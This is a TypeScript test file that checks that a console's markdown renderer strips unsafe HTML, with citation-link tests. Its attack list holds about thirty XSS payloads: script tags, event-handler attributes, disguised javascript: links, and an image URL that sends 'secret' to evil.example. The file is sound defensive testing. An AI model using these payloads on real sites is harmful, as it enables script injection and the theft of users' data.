import fc from "fast-check";
import { Parser } from "htmlparser2";
import { describe, expect, test } from "vitest";
import { citationsOf } from "../../../adapters/console/pages/sources.ts";
import { renderMarkdown } from "../../../adapters/console/render.ts";

const sources = [
  { number: 1, passageId: "a/b?c", title: `Key "rotation" <x>`, url: null, path: ["Ops"] },
  { number: 2, passageId: "b", title: "Verifiers", url: null, path: [] },
];
const render = (markdown: string) => renderMarkdown(markdown, citationsOf(sources));

const attacks = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "text <script> <svg onload=alert(1)// more",
  "<pre> <svg onload=alert(1)//",
  "<a href='javascript:alert(1)'>x</a>",
  "<style>body{background:url(//evil)}</style>",
  "<!-- x --><iframe src=//evil>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:x) [y](file:///etc/passwd) [z](//evil.example)",
  "![x](http://evil.example/pixel.png?q=secret)",
  "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
  "[![x](http://evil.example/a.png)](http://evil.example)",
  '[x](http://a.example/"onmouseover="alert(1))',
  "[x](<http://a.example/'onmouseover='alert(1)>)",
  '[x](http://a.example "t\\" onmouseover=\\"alert(1)")',
  '<http://a.example/"onclick=alert(1)>',
  '```js"><img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```',
  "`</code><script>alert(1)</script>`",
  "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
  "# <svg onload=alert(1)>\n\n- [ ] <b onclick=alert(1)>",
  "[r]\n\n[r]: javascript:alert(1) '\"><script>alert(1)</script>'",
  "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
  "[1](javascript:alert(1)) [1, 2] [1]<script>",
  "<input autofocus onfocus=alert(1)> <form action=//evil><button>",
  "<meta http-equiv=refresh content='0;url=//evil'><base href=//evil><link rel=stylesheet href=//evil>",
];

const harmless = new Set(
  "p a strong em del code pre figure figcaption button h3 h4 h5 h6 ul ol li blockquote hr br div table thead tbody tr th td input span".split(
    " ",
  ),
);
const attributes = new Set(
  "href title target rel class align type disabled checked start tabindex data-passage aria-label".split(" "),
);

describe("Markdown that a model or a document wrote", () => {
  test.each(attacks)("does no harm: %s", (attack) => {
    expect(faultsOf(render(attack))).toEqual([]);
  });

  test("does no harm however the attacks are mixed", () => {
    const piece = fc.oneof(
      fc.constantFrom(...attacks, "`", "```", "[", "](", ")", "<", ">", "\n", "\n\n", "|", "- ", "> ", '"', "'", "&"),
      fc.string(),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
        expect(faultsOf(render(pieces.join("")))).toEqual([]);
      }),
      { numRuns: 300 },
    );
  });

  test("HTML in it is shown as it was written", () => {
    expect(textOf(render("Use <b>bold</b> & `<i>`."))).toBe("Use <b>bold</b> & <i>.\n");
  });

  test("an image is a link, so that nothing is loaded", () => {
    expect(render("![the plan](https://a.example/p.png)")).toBe(
      `<p><a href="https://a.example/p.png" target="_blank" rel="noopener noreferrer">the plan</a></p>\n`,
    );
  });

  test("links keep their query, and a mail address is a link", () => {
    expect(render("[x](https://a.example/?a=1&b=2)")).toContain(`href="https://a.example/?a=1&#38;b=2"`);
    expect(render("[x](mailto:a@example.com)")).toContain(`href="mailto:a@example.com"`);
  });
});

describe("citations", () => {
  test("link to their passages, several at once too", () => {
    const html = render("So it is [1]. And [1, 2], [1][2].");
    expect(html.match(/href="\/passages\/a%2Fb%3Fc" data-passage/g)).toHaveLength(3);
    expect(html.match(/href="\/passages\/b" data-passage/g)).toHaveLength(2);
  });

  test("a number without a source, in code, or as a link's text is left as it was written", () => {
    expect(textOf(render("a[0], [7] and `x[1]`"))).toBe("a[0], [7] and x[1]\n");
    expect(render("a[0], [7] and `x[1]`")).not.toContain("citation");
    expect(render("[1](https://a.example)")).not.toContain("citation");
  });
});

/** What a browser would see in it that we never mean to send. */
function faultsOf(html: string): string[] {
  const faults: string[] = [];
  const parser = new Parser({
    onopentag(name, given) {
      if (!harmless.has(name)) faults.push(`<${name}>`);
      if (name === "input" && given["type"] !== "checkbox") faults.push("<input>");
      for (const [attribute, value] of Object.entries(given)) {
        if (!attributes.has(attribute)) faults.push(`${name} ${attribute}`);
        if (attribute === "href" && !/^(?:https?:|mailto:|\/passages\/)/.test(value)) faults.push(`href ${value}`);
      }
    },
    oncomment: () => void faults.push("comment"),
  });
  parser.end(html);
  return faults;
}

function textOf(html: string): string {
  let text = "";
  const parser = new Parser({ ontext: (piece) => void (text += piece) });
  parser.end(html);
  return text;
}
